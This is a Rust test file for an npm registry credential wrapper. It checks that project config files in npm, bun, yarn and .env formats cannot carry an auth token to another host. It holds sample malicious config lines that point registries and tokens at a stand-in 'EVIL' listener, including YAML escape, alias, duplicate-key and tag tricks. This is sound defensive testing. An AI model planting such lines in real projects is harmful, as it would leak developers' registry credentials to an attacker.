//! No file of a project carries a token to another host, in whatever form it is written.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::mpsc;
use std::time::Duration;

use super::projects::TOKEN_LINE;
use super::*;
use clients::{NPM_11, YARN};

/// Everything that a host of the project's choosing is sent, until nobody asks any more.
fn listen() -> (String, mpsc::Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let (heard, all) = mpsc::channel();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut bytes = [0; 8192];
            let length = stream.read(&mut bytes).unwrap_or_default();
            let _ = heard.send(String::from_utf8_lossy(&bytes[..length]).into_owned());
            let _ = stream.write_all(
                b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            );
        }
    });
    (address, all)
}

/// A line that would carry the token to another host, or on under another name, keeps it from all.
#[test]
fn no_variable_carries_a_token_to_another_host() {
    let ours = format!("@my-scope:registry={NPM}\n{TOKEN_LINE}=${{NAME}}\n");
    let desk = Desk::with(NPM_11);
    desk.sandbox.client("bun", "bun");
    desk.sandbox.link("env", Path::new("/usr/bin/env"));
    let (evil, heard) = listen();
    for (name, file, text, says) in LINES {
        let fill = |text: &str| text.replace("EVIL", &evil).replace("NAME", name);
        let npmrc = format!("registry=http://{evil}/\n{}", fill(&ours));
        desk.npmrc("");
        desk.sandbox.write("work/.npmrc", &npmrc);
        let before = if file == ".npmrc" {
            npmrc
        } else {
            String::new()
        };
        desk.sandbox
            .write(&format!("work/{file}"), &(before + &fill(text)));
        let shown = desk
            .types("codeartifact-npm exec -- env")
            .succeeded()
            .says(&[says, name]);
        assert!(!shown.stdout.contains("eyJ"), "{file} {text}: {shown:?}");
        for command in ["npm view lodash --fetch-retries=0", "bun add lodash"] {
            let _ = desk.types(&format!("codeartifact-npm exec -- {command}"));
        }
        fs::remove_file(desk.sandbox.path(&format!("work/{file}"))).unwrap();
    }
    while let Ok(request) = heard.recv_timeout(Duration::from_millis(10)) {
        assert!(!request.contains("eyJ"), "{request}");
    }
}

const LINES: [(&str, &str, &str, &str); 9] = [
    (
        "MY_TOKEN",
        ".npmrc",
        "//EVIL/:_authToken=${NAME}",
        ".npmrc:",
    ),
    ("MY_TOKEN", ".npmrc", "user-agent=${NAME}", ".npmrc:"),
    (
        "MY_TOKEN",
        ".npmrc",
        "[section]\n//EVIL/:_authToken=${NAME}",
        ".npmrc:",
    ),
    (
        "MY_TOKEN",
        "bunfig.toml",
        "[install]\nregistry = { url = \"http://EVIL/\", token = \"$NAME\" }",
        "bunfig.toml:2",
    ),
    ("MY_TOKEN", ".env", "OTHER=$NAME\n", ".env:1"),
    (
        "MY_TOKEN",
        ".yarnrc.yml",
        "npmRegistryServer: http://EVIL/\nnpmAuthToken: ${NAME}\n",
        ".yarnrc.yml:2",
    ),
    ("NPM_CONFIG_TOKEN", ".npmrc", "", "other programs read"),
    ("YARN_NPM_AUTH_TOKEN", ".npmrc", "", "other programs read"),
    ("HTTPS_PROXY_AUTH", ".npmrc", "", "other programs read"),
];

/// Yarn's own parser reads more than the lines of a file show.
#[test]
fn no_form_of_yaml_carries_a_token_to_another_host() {
    let rows = [
        // An escape in the value, and one in a key.
        "npmRegistryServer: \"http://EVIL/\"\nnpmAuthToken: \"${MY\\u005fTOKEN}\"\n",
        "npmRegistryServer: \"REPO\"\n\"npmRegistry\\u0053erver\": \"http://EVIL/\"\nnpmAuthToken: \"${MY_TOKEN}\"\n",
        // A value, and a whole mapping, that is repeated elsewhere.
        "npmRegistryServer: \"http://EVIL/\"\nnpmScopes:\n  my-scope:\n    npmRegistryServer: REPO\n    npmAuthToken: &t \"${MY_TOKEN}\"\nnpmAuthToken: *t\n",
        "npmRegistryServer: \"http://EVIL/\"\nnpmRegistries:\n  \"REPO\": &r {npmAuthToken: \"${MY_TOKEN}\"}\n  \"http://EVIL/\": *r\n",
        // A key that is there twice.
        "npmRegistryServer: \"REPO\"\nnpmAuthToken: \"${MY_TOKEN}\"\nnpmRegistryServer: \"http://EVIL/\"\n",
        "npmScopes:\n  my-scope:\n    npmRegistryServer: REPO\n    npmAuthToken: \"${MY_TOKEN}\"\nnpmScopes:\n  my-scope:\n    npmRegistryServer: \"http://EVIL/\"\n",
        // A tag, and a value on the next line.
        "npmRegistryServer: !!str http://EVIL/\nnpmAuthToken: \"${MY_TOKEN}\"\n",
        "npmRegistryServer: \"http://EVIL/\"\nnpmAuthToken:\n  ${MY_TOKEN}\n",
    ];
    let desk = Desk::with(YARN);
    desk.sandbox.link("env", Path::new("/usr/bin/env"));
    let (evil, heard) = listen();
    let mut reached = 0;
    for text in rows {
        let text = text.replace("EVIL", &evil).replace("REPO", "NPM");
        let allowed =
            "unsafeHttpWhitelist: [\"127.0.0.1\"]\nenableGlobalCache: false\nhttpRetry: 0\n";
        desk.yarnrc(&format!("{allowed}npmAlwaysAuth: true\n{text}"));
        // Of the variable's own accord it would be set.
        desk.sandbox
            .write("work/.npmrc", &format!("{TOKEN_LINE}=${{MY_TOKEN}}\n"));
        let shown = desk.types("codeartifact-npm exec -- env").succeeded();
        assert!(!shown.stdout.contains("MY_TOKEN=eyJ"), "{text}: {shown:?}");
        for package in ["lodash", "@my-scope/other"] {
            let _ = desk.types(&format!("codeartifact-npm exec -- yarn npm info {package}"));
        }
        while let Ok(request) = heard.recv_timeout(Duration::from_millis(10)) {
            assert!(!request.contains("eyJ"), "{text}: {request}");
            reached += 1;
        }
    }
    assert!(reached > 0);
    // Without such a file it is set.
    desk.yarnrc("npmRegistryServer: NPM\n");
    let shown = desk.types("codeartifact-npm exec -- env").succeeded();
    assert!(shown.stdout.contains("MY_TOKEN=eyJ"), "{shown:?}");
}
